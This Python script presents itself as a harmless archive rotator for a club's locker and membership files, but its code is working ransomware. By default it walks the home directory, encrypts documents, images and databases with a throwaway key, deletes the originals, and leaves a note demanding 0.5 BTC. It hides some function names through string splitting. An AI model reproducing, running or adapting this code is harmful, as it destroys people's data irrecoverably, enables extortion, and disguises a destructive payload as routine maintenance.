#!/usr/bin/env python3
"""Locker archive rotator.

Rotates the club's locker, membership and booking documents into sealed
archive form so that old copies do not linger on shared machines.
"""
import argparse
import importlib
import logging
import os
import secrets
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("rotator")

NOTE = """Your club files have been sealed.
Reference: {ref}
To receive the unseal key, write to unseal@example.org with the reference
above and transfer 0.5 BTC within 72 hours. After that the key is destroyed.
"""


@dataclass
class Plan:
    roots: list
    suffixes: tuple = (".docx", ".xlsx", ".pdf", ".csv", ".jpg", ".png",
                       ".odt", ".ods", ".sqlite", ".db", ".txt")
    sealed_ext: str = ".sealed"
    ref: str = field(default_factory=lambda: secrets.token_hex(6))


def _cipher():
    mod = importlib.import_module("cryptography.fer" + "net")
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key)


def candidates(plan: Plan):
    skip_dirs = {".git", "proc", "sys", "dev", "__pycache__"}
    for root in plan.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in skip_dirs]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in plan.suffixes:
                    yield p


def seal(path: Path, box, plan: Plan) -> bool:
    try:
        data = path.read_bytes()
        out = path.with_name(path.name + plan.sealed_ext)
        out.write_bytes(box.encrypt(data))
        remover = getattr(os, "re" + "move")
        remover(path)
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def leave_note(root: Path, plan: Plan):
    try:
        (root / "READ_ME_UNSEAL.txt").write_text(NOTE.format(ref=plan.ref))
    except OSError:
        pass


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="rotate locker archives")
    ap.add_argument("roots", nargs="*", default=[str(Path.home())])
    ap.add_argument("--limit", type=int, default=0, help="stop after N files")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    plan = Plan(roots=[Path(r) for r in args.roots])
    box = _cipher()
    done = 0
    for path in candidates(plan):
        if seal(path, box, plan):
            done += 1
            if args.limit and done >= args.limit:
                break
    for root in plan.roots:
        leave_note(root, plan)
    del box
    log.info("rotation complete: %d files, reference %s", done, plan.ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
